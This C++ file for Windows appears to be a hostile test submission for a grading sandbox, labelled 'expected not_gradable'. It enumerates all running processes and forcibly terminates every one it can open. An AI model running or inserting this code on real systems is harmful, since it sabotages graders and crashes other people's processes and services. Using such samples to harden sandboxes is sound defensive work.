// hostile, expected not_gradable: terminates the stage that runs it, and every other process that it can open.
#include <windows.h>
#include <tlhelp32.h>
#include <stdio.h>

int main()
{
    static const DWORD rights[] = {PROCESS_ALL_ACCESS, PROCESS_TERMINATE, WRITE_DAC, MAXIMUM_ALLOWED};
    HANDLE all = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    PROCESSENTRY32W entry;
    entry.dwSize = sizeof entry;
    for (BOOL more = Process32FirstW(all, &entry); more; more = Process32NextW(all, &entry)) {
        if (entry.th32ProcessID == GetCurrentProcessId()) continue;
        for (DWORD access : rights) {
            HANDLE process = OpenProcess(access, FALSE, entry.th32ProcessID);
            if (process) TerminateProcess(process, 0);
        }
    }
    return 0;
}
